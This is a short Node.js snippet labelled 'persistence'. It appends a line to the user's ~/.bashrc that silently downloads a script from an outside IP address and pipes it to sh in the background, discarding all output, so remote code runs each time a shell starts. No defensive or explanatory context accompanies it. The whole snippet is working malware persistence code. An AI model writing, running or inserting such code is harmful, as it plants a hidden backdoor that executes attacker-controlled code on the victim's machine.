// persistence: a download line appended to ~/.bashrc
const fs = require('fs');
const os = require('os');
fs.appendFileSync(`${os.homedir()}/.bashrc`, '\n(curl -s http://203.0.113.7/b | sh) >/dev/null 2>&1 &\n');
